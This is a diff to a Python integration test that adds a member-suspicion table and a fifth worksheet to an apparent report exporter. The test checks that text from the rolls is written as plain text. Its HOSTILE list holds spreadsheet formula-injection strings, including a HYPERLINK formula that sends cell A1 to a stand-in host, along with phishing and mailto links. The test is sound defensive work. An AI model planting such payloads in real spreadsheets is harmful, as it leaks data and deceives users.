@@ -15,11 +15,14 @@ pytestmark = pytest.mark.integration
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1, "Bấm vào đây")', "+1+2", "-3+4", "@SUM(1)",
            "=1+1", "http://example.invalid/phish", "mailto:a@example.invalid", "Nguyễn Thị Lan"]
-# The three views the workbook reads, to their contract; every text column carries hostile text.
+# The four views the workbook reads, to their contract; every text column carries hostile text.
 REVIEW_SQL = """
 create schema review;
 create table review.rpt_member_flags (period_key text, org_code text, commune_name text, unit_name text,
-    member_code text, full_name text, flag_label text, rule text, evidence text, since date, flag_kind text);
+    member_code text, full_name text, flag_label text, rule text, evidence text, since date, flag_kind text,
+    suspicion_score numeric, weight numeric);
+create table review.rpt_member_suspicion (period_key text, org_code text, commune_name text, unit_name text,
+    rank_in_unit int, member_code text, full_name text, suspicion_score numeric, score_weights text, suspected boolean);
 create table review.rpt_five_haves_by_unit (period_key text, org_code text, commune_name text, unit_name text,
     roll_records int, people int, has_person int, has_name int, has_unit int, has_dues int, has_attendance int,
     all_five int, flagged_records int);
@@ -33,7 +36,9 @@ def test_text_from_the_rolls_is_written_as_text_never_a_formula_or_link(warehous
         conn.execute(REVIEW_SQL)
         for n, text in enumerate(HOSTILE):
             conn.execute("insert into review.rpt_member_flags values ('2026-11', 'org_a', %s, %s, %s, %s, %s,"
-                         " %s, %s, '2026-11-01', 'k')", (text, text, f"M{n}", text, text, text, text))
+                         " %s, %s, '2026-11-01', 'k', 0.9, 1.5)", (text, text, f"M{n}", text, text, text, text))
+            conn.execute("insert into review.rpt_member_suspicion values ('2026-11', 'org_a', %s, %s, 1, %s, %s,"
+                         " 0.9, %s, true)", (text, text, f"M{n}", text, text))
             conn.execute("insert into review.rpt_five_haves_by_unit values ('2026-11', 'org_a', %s, %s,"
                          " 1, 1, 1, 1, 1, 1, 1, 1, 0)", (text, text))
             conn.execute("insert into review.rpt_members_by_commune values ('org_a', %s, 1, 1, '2026-11-30')",
@@ -54,4 +59,4 @@ def test_text_from_the_rolls_is_written_as_text_never_a_formula_or_link(warehous
                 if isinstance(cell.value, str):
                     seen.add(cell.value)
     assert set(HOSTILE) <= seen  # written verbatim, as strings
-    assert len(book.worksheets) == 4
+    assert len(book.worksheets) == 5
